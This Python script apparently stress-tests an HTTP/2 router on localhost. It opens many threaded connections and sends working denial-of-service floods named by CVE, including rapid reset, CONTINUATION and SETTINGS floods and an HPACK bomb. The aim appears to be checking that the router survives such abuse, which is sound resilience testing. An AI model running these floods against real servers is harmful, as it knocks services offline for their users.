"""Misuses a router in one way, as fast as it can, from one address, until it is told to stop (SIGTERM).

Prints a line of JSON at the end: how many connections it had.
"""

import argparse
import json
import os
import signal
import socket
import ssl
import threading

from http2 import GREETING, call, frame

SETTINGS = frame(4)
CALLS = [call(number, 0x5, ("authorization", "Bearer e30.e30.e30")) for number in range(1, 1_001, 2)]

# What a connection sends after the greeting.
FLOODS = {
    "PING flood (CVE-2019-9512)": [frame(6, payload=b"abcdefgh") * 1_000] * 200,
    "SETTINGS flood (CVE-2019-9515)": [SETTINGS * 1_000] * 10,
    "PRIORITY loop (CVE-2019-9513)": [frame(2, 0, 1, b"\0\0\0\3\1") * 1_000] * 10,
    "WINDOW_UPDATE flood": [frame(8, payload=b"\0\0\0\1") * 1_000] * 200,
    "frames of unknown types": [frame(0xEE, payload=b"abc") * 1_000] * 10,
    "rapid reset (CVE-2023-44487)": [c + frame(3, 0, 2 * n + 1, b"\0\0\0\x08") for n, c in enumerate(CALLS)],
    "calls with bad tokens": CALLS,
    "CONTINUATION flood (CVE-2024-27983)": [call(1, 0) + frame(9, 0, 1, b"\x82") * 1_000],
    "HPACK bomb (CVE-2016-6581)":
        [frame(1, 5, 1, b"\x40\1x\x7f\xa1\x1e" + b"a" * 4_000 + b"\xbe" * 1_000)],
    "DATA for a stream that has gone":
        [call(1, 0x4) + frame(3, 0, 1, b"\0\0\0\x08"), *[frame(0, 0, 1, bytes(16_384))] * 2_000],
    "random bytes in HTTP/2": [os.urandom(65_536)] * 4,
}
KINDS = ["connections that leave at once", "TLS handshakes that leave at once", "no TLS but random bytes",
         "connections that say nothing", "headers that do not end", *FLOODS]


class Abuser:
    def __init__(self, options):
        self.options = options
        self.stopping = threading.Event()
        self.lock = threading.Lock()
        self.connections = 0
        self.context = ssl.create_default_context(cafile=options.ca)
        self.context.set_alpn_protocols(["h2"])

    def run(self):
        signal.signal(signal.SIGTERM, lambda *_: self.stopping.set())
        threads = [threading.Thread(target=self.loop, daemon=True) for _ in range(self.options.threads)]
        for thread in threads:
            thread.start()
        self.stopping.wait()
        print(json.dumps({"connections": self.connections}), flush=True)
        os._exit(0)

    def loop(self):
        while not self.stopping.is_set():
            try:
                with socket.create_connection(
                    ("127.0.0.1", self.options.port), timeout=10, source_address=(self.options.source, 0)
                ) as tcp:
                    tcp.setsockopt(socket.IPPROTO_TCP, socket.TCP_NODELAY, 1)
                    self.misuse(tcp)
            except OSError:
                # Being thrown out is what this is about.
                pass
            with self.lock:
                self.connections += 1

    def misuse(self, tcp):
        kind = self.options.kind
        if kind == "connections that leave at once":
            return
        if kind == "no TLS but random bytes":
            tcp.sendall(os.urandom(4_096))
        if kind in ("no TLS but random bytes", "connections that say nothing"):
            tcp.recv(4_096)
            return
        with self.context.wrap_socket(tcp, server_hostname="localhost") as connection:
            if kind == "TLS handshakes that leave at once":
                return
            connection.sendall(GREETING + SETTINGS)
            if kind == "headers that do not end":
                connection.sendall(call(1, 0))
            else:
                for piece in FLOODS[kind]:
                    connection.sendall(piece)
            # Until it is thrown out.
            while connection.recv(65_536):
                pass


def main():
    parser = argparse.ArgumentParser(description=__doc__)
    parser.add_argument("--kind", choices=KINDS, required=True)
    parser.add_argument("--port", type=int, required=True)
    parser.add_argument("--ca", required=True)
    parser.add_argument("--source", default="127.0.0.66", help="the address that it comes from")
    parser.add_argument("--threads", type=int, default=16)
    Abuser(parser.parse_args()).run()


if __name__ == "__main__":
    main()
